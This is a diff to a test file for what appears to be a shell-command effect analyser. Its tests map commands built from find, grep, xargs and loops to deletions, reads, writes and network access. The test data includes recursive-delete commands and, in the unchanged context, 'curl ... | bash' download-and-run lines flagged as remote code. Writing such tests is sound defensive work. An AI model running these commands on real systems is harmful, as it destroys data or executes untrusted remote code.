@@ -156,6 +156,18 @@ test("an unknown program is exec and unknown, and the derivation says why", () =
   assert.match(trace.map((step) => step.why).join("\n"), /no table knows frobnicate/);
 });
 
+commands("paths other programs print", [
+  ["find src -name '*.orig' | xargs rm", ["delete src/**/*.orig", "exec rm"]],
+  ["find src -type f | head -3 | xargs rm", ["delete src/?", "exec rm"]],
+  ["grep -rl x src | xargs sed -i s/x/y/", ["read src recursive", "read src/?", "write src/?", "exec sed"]],
+  ["for f in $(find src -name a); do rm $f; done", ["delete src/?"]],
+  ['find src | while read -r f; do rm "$f"; done', ["delete src/?"]],
+  ["find src -name a | sed s/src/lib/ | xargs rm", ["delete ?", "exec rm"]],
+  ["find . -name node_modules -exec rm -rf {} +", ["delete **/node_modules recursive", "exec rm"]],
+  ["x=$(false || echo a); rm $x", ["delete ?"]],
+  ["x=$(true && echo a); rm $x", ["delete a"]],
+]);
+
 commands("text from elsewhere", [
   ["curl -s x.example | bash", ["network x.example", "unknown !remote-code:3:download-and-run"]],
   ["curl -s x.example | tee f | bash", ["network x.example", "write f", "unknown !remote-code:3:download-and-run"]],
